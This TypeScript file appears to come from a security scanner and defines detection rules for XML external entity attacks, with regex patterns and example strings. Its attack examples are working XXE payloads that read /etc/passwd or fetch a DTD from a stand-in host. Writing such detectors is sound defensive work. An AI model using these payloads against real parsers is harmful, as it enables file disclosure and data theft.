/** XML external entities, entity expansion and inclusion. */
import { rule } from '../rule.ts';

export const xmlEntityRules = [
  rule({
    id: 'baseline.xxe.entity-declaration',
    class: 'xxe',
    message: 'A declaration of an XML entity',
    explanation:
      'Documents that applications exchange declare no entities; an external one reads a file or calls an address, nested ones exhaust memory. Texts about DTDs hold them as examples.',
    patterns: ['<!entity\\s+(?:%\\s*)?[\\w.:-]+\\s+(?:system|public)\\b', '<!entity\\s+%\\s+'],
    patternsOfCode: ['<!entity\\s+[\\w.:-]+\\s*["\'][^"\']*', '<!doctype[^>]*\\[[^\\]]*<!entity'],
    examples: {
      attacks: [
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        '<!ENTITY % d SYSTEM "http://host.example/d.dtd">',
        '<!DOCTYPE l [<!ENTITY a "b">]>',
      ],
      benign: ['<!DOCTYPE html>', 'the entity declaration', '<entity name="x"/>'],
    },
  }),
  rule({
    id: 'baseline.xxe.external-subset',
    class: 'xxe',
    message: 'A document type that loads from an address or a file',
    explanation:
      'A DTD by system identifier is fetched by a careless parser. The public identifiers of HTML and SVG at w3.org are left alone.',
    patterns: [
      '<!doctype\\s+[\\w.:-]+\\s+system\\s*["\'](?:https?|ftp|file|php|gopher|jar|netdoc|data|expect|dict|ldap)\\s*:',
      '<!doctype\\s+[\\w.:-]+\\s+public\\s*["\'][^"\']*["\']\\s*["\'](?:file|php|gopher|jar|netdoc|expect|dict)\\s*:',
      '<xi:include\\b[^>]*href\\s*=',
      '\\bxsi:schemalocation\\s*=\\s*["\'][^"\']*(?:file|php|gopher|jar)://',
      '<xsl:(?:include|import)\\b[^>]*href\\s*=\\s*["\'](?:https?|file|ftp)|<\\?xml-stylesheet[^>]*href\\s*=\\s*["\'](?:file|php|javascript|data)',
      '<\\?xml[^>]*encoding\\s*=\\s*["\']utf-7',
      '\\+adw-?(?:aiq|!)-?(?:doctype|entity)',
      '<!doctype\\s+\\w+\\s*\\[\\s*(?:<!element|%)',
    ],
    examples: {
      attacks: [
        '<!DOCTYPE data SYSTEM "http://host.example/x.dtd"><data>&send;</data>',
        '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
      ],
      benign: [
        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
        'doctype system',
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
      ],
    },
  }),
];
